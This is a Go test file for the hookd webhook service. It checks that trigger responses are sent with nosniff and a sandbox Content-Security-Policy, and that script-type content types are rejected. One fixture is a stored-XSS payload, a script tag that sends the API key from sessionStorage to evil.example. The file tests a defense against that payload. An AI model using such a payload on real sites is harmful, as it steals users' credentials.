package trigger_test

import (
	"net/http"
	"strings"
	"testing"

	"connectrpc.com/connect"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	hookdv1 "github.com/hookd/hookd/gen/go/hookd/v1"
	"github.com/hookd/hookd/gen/go/hookd/v1/hookdv1connect"
	"github.com/hookd/hookd/internal/store"
	"github.com/hookd/hookd/internal/trigger"
)

// Nothing a MEMBER stores runs as script on hookd's origin: every answer of /t/ and /v1/executions/ (default,
// custom, sync 303, 400, 401, 404, 405, 413, 429, result) carries nosniff and the sandbox CSP, so a custom
// text/html or image/svg+xml body renders with an opaque origin and no script.
func TestEveryAnswerIsInert(t *testing.T) {
	t.Parallel()
	backends(t, func(t *testing.T, st store.Store) {
		b := setup(t, st)
		custom := func(ct string) *hookdv1.Trigger {
			return b.create(t, &hookdv1.CreateTriggerRequest{EventType: "order.created", Response: &hookdv1.TriggerResponse{
				ContentType: ct, Body: `<script>fetch("https://evil.example/?k="+sessionStorage["hookd.apiKey"])</script>`}})
		}
		plain := b.create(t, &hookdv1.CreateTriggerRequest{EventType: "order.created"})
		keyed := b.create(t, &hookdv1.CreateTriggerRequest{EventType: "order.created", ApiKeyHeader: "X-Key"})
		small := b.create(t, &hookdv1.CreateTriggerRequest{EventType: "order.created", MaxBodyBytes: 8, RateLimitPerSecond: 1})
		sync := b.create(t, &hookdv1.CreateTriggerRequest{EventType: "order.created", Sync: true})
		// Spend small's one token of this second.
		require.Equal(t, http.StatusOK, b.post(t, small.Url, "application/json", `{}`).status)

		cases := []struct {
			name   string
			method string
			url    string
			body   string
			status int
			ctype  string
		}{
			{"default", "POST", plain.Url, `{}`, http.StatusOK, "application/json"},
			{"custom text/html", "POST", custom("text/html").Url, `{}`, http.StatusOK, "text/html"},
			{"custom image/svg+xml", "GET", custom("image/svg+xml").Url, ``, http.StatusOK, "image/svg+xml"},
			{"custom application/xhtml+xml", "POST", custom("application/xhtml+xml; charset=utf-8").Url, `{}`, http.StatusOK, "application/xhtml+xml; charset=utf-8"},
			{"custom text/xml", "POST", custom("text/xml").Url, `{}`, http.StatusOK, "text/xml"},
			{"sync 303", "POST", sync.Url, `{}`, http.StatusSeeOther, "application/json"},
			{"malformed json", "POST", plain.Url, `{`, http.StatusBadRequest, "application/json"},
			{"missing api key", "POST", keyed.Url, `{}`, http.StatusUnauthorized, "application/json"},
			{"unknown trigger", "GET", "/t/trg_unknown", ``, http.StatusNotFound, "application/json"},
			{"not a trigger id", "GET", "/t/nope", ``, http.StatusNotFound, "application/json"},
			{"method", "OPTIONS", plain.Url, ``, http.StatusMethodNotAllowed, "application/json"},
			{"too large", "POST", small.Url, `{"a":"0123456789"}`, http.StatusRequestEntityTooLarge, "application/json"},
			{"rate", "POST", small.Url, `{}`, http.StatusTooManyRequests, "application/json"},
			{"result without token", "GET", "/v1/executions/exe_x/result", ``, http.StatusNotFound, "application/json"},
		}
		for _, c := range cases {
			r := b.do(t, c.method, c.url, "application/json", strings.NewReader(c.body))
			require.Equal(t, c.status, r.status, "%s: %s", c.name, r.body)
			assert.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"), c.name)
			assert.Equal(t, trigger.ContentSecurityPolicy, r.header.Get("Content-Security-Policy"), c.name)
			assert.Contains(t, r.header.Get("Content-Security-Policy"), "sandbox", c.name)
			assert.Equal(t, c.ctype, r.header.Get("Content-Type"), c.name)
			if c.name == "sync 303" {
				res := b.do(t, "GET", r.header.Get("Location"), "", nil)
				assert.Equal(t, "nosniff", res.header.Get("X-Content-Type-Options"), "result")
				assert.Equal(t, trigger.ContentSecurityPolicy, res.header.Get("Content-Security-Policy"), "result")
			}
		}
	})
}

// Types a page of hookd's origin would run as script or style when it loads them as a subresource (where the
// answer's own CSP does not apply) are refused as response.content_type; one stored before is served as
// text/plain.
func TestActiveResponseTypesAreRefused(t *testing.T) {
	t.Parallel()
	backends(t, func(t *testing.T, st store.Store) {
		b := setup(t, st)
		for _, ct := range []string{"text/javascript", "application/javascript", "application/x-javascript; charset=utf-8",
			"text/ecmascript", "TEXT/JavaScript", "text/jscript", "application/wasm", "text/css", "module/javascript"} {
			for _, c := range []struct {
				role   string
				client hookdv1connect.TriggerServiceClient
			}{{"admin", b.admin}, {"member", b.member}} {
				_, err := c.client.CreateTrigger(b.ctx, connect.NewRequest(&hookdv1.CreateTriggerRequest{Name: "x", EventType: "order.created",
					Response: &hookdv1.TriggerResponse{ContentType: ct, Body: "alert(1)"}}))
				require.Equal(t, connect.CodeInvalidArgument, connectCode(t, err), "%s %s", c.role, ct)
				assert.Contains(t, err.Error(), "response.content_type", ct)
			}
		}
		trg := b.create(t, &hookdv1.CreateTriggerRequest{EventType: "order.created", Response: &hookdv1.TriggerResponse{ContentType: "text/plain", Body: "ok"}})
		_, err := b.member.UpdateTrigger(b.ctx, connect.NewRequest(&hookdv1.UpdateTriggerRequest{Id: trg.Id,
			Response: &hookdv1.TriggerResponse{ContentType: "text/javascript", Body: "alert(1)"}}))
		require.Equal(t, connect.CodeInvalidArgument, connectCode(t, err))
		assert.Contains(t, err.Error(), "response.content_type")

		// A trigger stored with an active type (before the check) answers text/plain.
		stored, err := st.GetTrigger(b.ctx, b.project.ID, trg.Id)
		require.NoError(t, err)
		stored.ResponseType, stored.ResponseBody = "text/javascript", "alert(1)"
		require.NoError(t, st.UpdateTrigger(b.ctx, stored))
		b.clock.Advance(trigger.DefaultTriggerCacheTTL * 2)
		r := b.do(t, "GET", trg.Url, "", nil)
		require.Equal(t, http.StatusOK, r.status)
		assert.Equal(t, "text/plain; charset=utf-8", r.header.Get("Content-Type"))
		assert.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"))
	})
}
